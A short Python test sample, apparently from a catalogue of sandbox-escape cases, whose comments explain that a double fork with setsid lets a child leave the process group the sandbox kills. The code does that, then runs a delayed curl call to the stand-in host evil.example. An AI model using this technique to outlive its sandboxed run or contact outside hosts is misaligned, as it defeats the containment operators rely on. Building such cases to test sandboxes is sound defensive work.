# attack-class: 10
# title: double fork + setsid to escape the run
# why: a daemonised child leaves the process group the sandbox kills

import os

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.system("sleep 100000; curl http://evil.example/late")
